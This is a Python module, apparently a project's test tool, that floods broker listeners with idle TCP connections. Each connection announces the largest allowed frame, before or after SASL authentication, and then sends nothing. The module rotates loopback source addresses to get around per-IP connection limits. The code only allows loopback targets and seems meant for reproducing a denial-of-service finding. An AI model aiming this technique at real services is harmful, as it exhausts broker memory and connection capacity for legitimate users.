"""The anonymous flood: connections that announce the largest frame a listener takes and then
send nothing, held for as long as the flood runs (a connection the listener closes is opened
again), in a process of their own so the flood shares no interpreter with what it attacks.

Each target is a listener, frame sizes and a count: `100 MiB - 4 KiB` on a PLAINTEXT client
listener (its ANONYMOUS principal may announce up to `socket.request.max.bytes`), `512 KiB` on a
SASL listener before authentication (`sasl.server.max.receive.size`), a controller listener
included. Each target's connections come from a loopback source address of their own
(127.0.0.2, 127.0.0.3, ...; the next flood the next ones), so the per-address bound
(`max.connections.per.ip`) is not what saves the listener: the flood holds its whole count on
every listener at once. Loopback only.

    with Flood([Target("127.0.0.1", 9092, (MAX_FRAME,), 1000)]) as flood:
        ...
    flood.report()   # per target: held, opened, closed by the listener, refused, longest held

    python -m devtools.flood 127.0.0.1:9092:104853504:1000 ...   # until stdin closes
"""

from __future__ import annotations

import contextlib
import dataclasses
import errno
import itertools
import json
import os
import resource
import selectors
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Sequence
from typing import Any

MAX_FRAME = 100 * 1024 * 1024 - 4096  # under socket.request.max.bytes (100 MiB)
MAX_UNAUTHENTICATED_FRAME = 512 * 1024  # sasl.server.max.receive.size
REOPEN_AFTER_QUICK_CLOSE_S = 0.5  # a connection closed at once (refused) is retried this late
# The finding's small frames: 8 B, 16 B, ... 2 KiB. 27 of them, a moment after the largest, fill
# what one 100 MiB - 4 KiB announcement leaves of a pool charged with announced sizes.
SMALL_SIZES = tuple(8 << i for i in range(9))
# Before authentication, up to sasl.server.max.receive.size: most announce all of it, the rest the
# small sizes, so a pool charged with announced sizes is filled to its last bytes (the finding's
# connections on the controller port announced "up to 512 KiB").
UNAUTHENTICATED_SIZES = (MAX_UNAUTHENTICATED_FRAME,) * 30 + SMALL_SIZES
REPORT_EVERY_S = 1.0
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


@dataclasses.dataclass(frozen=True)
class Target:
    host: str
    port: int
    sizes: tuple[int, ...]  # the frame sizes its connections announce, in turn
    count: int  # connections held at once
    source: str = ""  # the loopback source address (Flood gives each target its own)
    delay_s: float = 0.0  # opened this long after the flood starts

    def spec(self) -> str:
        sizes = ",".join(str(size) for size in self.sizes)
        return f"{self.host}:{self.port}:{sizes}:{self.count}:{self.source}:{self.delay_s}"

    @classmethod
    def parse(cls, spec: str) -> Target:
        host, port, sizes, count, source, delay = [*spec.split(":"), "", "0"][:6]
        announced = tuple(int(size) for size in sizes.split(","))
        return cls(host, int(port), announced, int(count), source, float(delay or 0))


@dataclasses.dataclass
class _Stats:
    target: str
    largest: int  # the largest frame size its connections announce
    smallest: int
    count: int
    source: str
    held: int = 0
    held_max: int = 0
    opened: int = 0
    closed_by_listener: int = 0
    refused: int = 0  # closed (or failed to connect) within REOPEN_AFTER_QUICK_CLOSE_S
    longest_held_s: float = 0.0


@dataclasses.dataclass
class _Slot:
    target: Target
    stats: _Stats
    sock: socket.socket | None = None
    opened_at: float = 0.0
    connected: bool = False
    retry_at: float = 0.0
    size: int = 0  # what it announces (the target's size, or a small one)


class _Flooder:
    """The flood's own loop (in the child process): one selector over every connection."""

    def __init__(self, targets: Sequence[Target]) -> None:
        self.selector = selectors.DefaultSelector()
        self.slots: list[_Slot] = []
        self.stats: list[_Stats] = []
        now = time.monotonic()
        for target in targets:
            name = f"{target.host}:{target.port}"
            sizes = target.sizes
            stats = _Stats(name, max(sizes), min(sizes), target.count, target.source)
            self.stats.append(stats)
            self.slots += [
                _Slot(target, stats, retry_at=now + target.delay_s, size=sizes[i % len(sizes)])
                for i in range(target.count)
            ]

    def open(self, slot: _Slot, now: float) -> None:
        target = slot.target
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        try:
            if target.source:
                sock.bind((target.source, 0))
            code = sock.connect_ex((target.host, target.port))
        except OSError:
            sock.close()
            self._refused(slot, now)
            return
        if code not in (0, errno.EINPROGRESS):
            sock.close()
            self._refused(slot, now)
            return
        slot.sock, slot.opened_at, slot.connected = sock, now, False
        slot.stats.opened += 1
        self.selector.register(sock, selectors.EVENT_WRITE, slot)

    def _refused(self, slot: _Slot, now: float) -> None:
        slot.stats.refused += 1
        slot.retry_at = now + REOPEN_AFTER_QUICK_CLOSE_S

    def on_event(self, slot: _Slot, now: float) -> None:
        sock = slot.sock
        assert sock is not None
        if not slot.connected:
            if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                self.close(slot, now)
                return
            try:
                sock.send(struct.pack(">i", slot.size))  # the size, then nothing
            except OSError:
                self.close(slot, now)
                return
            slot.connected = True
            slot.stats.held += 1
            slot.stats.held_max = max(slot.stats.held_max, slot.stats.held)
            self.selector.modify(sock, selectors.EVENT_READ, slot)
            return
        try:
            data = sock.recv(4096)
        except OSError:
            data = b""
        if not data:  # the listener closed it (or reset it)
            self.close(slot, now)

    def close(self, slot: _Slot, now: float) -> None:
        sock = slot.sock
        assert sock is not None
        self.selector.unregister(sock)
        sock.close()
        slot.sock = None
        held_s = now - slot.opened_at
        if slot.connected:
            slot.stats.held -= 1
            slot.stats.longest_held_s = max(slot.stats.longest_held_s, round(held_s, 2))
        if held_s < REOPEN_AFTER_QUICK_CLOSE_S:
            self._refused(slot, now)
        else:
            slot.stats.closed_by_listener += 1
            slot.retry_at = now

    def report(self, now: float) -> list[dict[str, Any]]:
        for slot in self.slots:  # the connections still held count toward the longest
            if slot.sock is not None and slot.connected:
                held_s = round(now - slot.opened_at, 2)
                slot.stats.longest_held_s = max(slot.stats.longest_held_s, held_s)
        return [dataclasses.asdict(s) for s in self.stats]

    def run(self, stop: threading.Event) -> None:
        next_report = time.monotonic()
        while not stop.is_set():
            now = time.monotonic()
            for slot in self.slots:
                if slot.sock is None and slot.retry_at <= now:
                    self.open(slot, now)
            for key, _ in self.selector.select(timeout=0.05):
                self.on_event(key.data, time.monotonic())
            if now >= next_report:
                print(json.dumps(self.report(now)), flush=True)
                next_report = now + REPORT_EVERY_S
        print(json.dumps(self.report(time.monotonic())), flush=True)
        for slot in self.slots:
            if slot.sock is not None:
                slot.sock.close()


def main(argv: Sequence[str] | None = None) -> int:
    specs = list(sys.argv[1:] if argv is None else argv)
    targets = [Target.parse(spec) for spec in specs]
    if not targets or any(not t.host.startswith("127.") for t in targets):
        print("usage: python -m devtools.flood HOST:PORT:SIZE:COUNT[:SOURCE] ... (loopback)")
        return 2
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    stop = threading.Event()

    def until_stdin_closes() -> None:
        sys.stdin.read()
        stop.set()

    threading.Thread(target=until_stdin_closes, daemon=True).start()
    _Flooder(targets).run(stop)
    return 0


_SOURCES = itertools.count()


def next_source() -> str:
    """A loopback source address no flood of this process used lately (127.0.0.2 to .250): a
    listener that never noticed an earlier flood's connections close counts them still."""
    return f"127.0.0.{2 + next(_SOURCES) % 249}"


class Flood:
    """The flood in a child process (`python -m devtools.flood`), for a `with` block: every
    target's connections opened on entry (within `ramp_s`), closed on exit."""

    def __init__(self, targets: Sequence[Target]) -> None:
        self.targets = [
            t if t.source else dataclasses.replace(t, source=next_source()) for t in targets
        ]
        if any(not t.host.startswith("127.") for t in self.targets):
            raise ValueError("the flood attacks loopback addresses only")
        self.process: subprocess.Popen[str] | None = None
        self._last: list[dict[str, Any]] = []
        self._reader: threading.Thread | None = None
        self.ramped = False
        self.held_min: dict[str, int] = {}  # per target, after every connection was held once
        self.started = 0.0
        self.stopped = 0.0

    def __enter__(self) -> Flood:
        self.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()

    def start(self, ramp_s: float = 60) -> None:
        self.process = subprocess.Popen(
            [sys.executable, "-m", "devtools.flood", *(t.spec() for t in self.targets)],
            cwd=ROOT,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        self._reader = threading.Thread(target=self._read, name="flood-report", daemon=True)
        self._reader.start()
        self.started = time.monotonic()
        deadline = self.started + ramp_s
        while not self.all_held():
            if time.monotonic() > deadline or self.process.poll() is not None:
                self.stop()
                raise AssertionError(f"the flood did not hold its connections: {self._last}")
            time.sleep(0.1)

    def _read(self) -> None:
        assert self.process is not None and self.process.stdout is not None
        for line in self.process.stdout:
            with contextlib.suppress(ValueError):
                self._last = json.loads(line)
            if self.ramped or self.all_held():
                self.ramped = True
                for stats in self._last:
                    key = stats["target"]
                    self.held_min[key] = min(self.held_min.get(key, stats["held"]), stats["held"])

    def all_held(self) -> bool:
        """Every target's whole count held at once at some moment since the start."""
        last = self._last
        return len(last) == len(self.targets) and all(s["held_max"] >= s["count"] for s in last)

    def report(self) -> list[dict[str, Any]]:
        """Each target's figures; `held_min`: the fewest held at once once all were (a
        connection the listener closed is open again within a moment)."""
        return [{**s, "held_min": self.held_min.get(s["target"])} for s in self._last]

    def stop(self) -> list[dict[str, Any]]:
        process = self.process
        if process is None or self.stopped:
            return self.report()
        self.stopped = time.monotonic()
        with contextlib.suppress(OSError):
            assert process.stdin is not None
            process.stdin.close()
        try:
            process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait(timeout=10)
        if self._reader is not None:
            self._reader.join(timeout=10)
        return self.report()

    @property
    def seconds(self) -> float:
        return round((self.stopped or time.monotonic()) - self.started, 1)


if __name__ == "__main__":
    sys.exit(main())
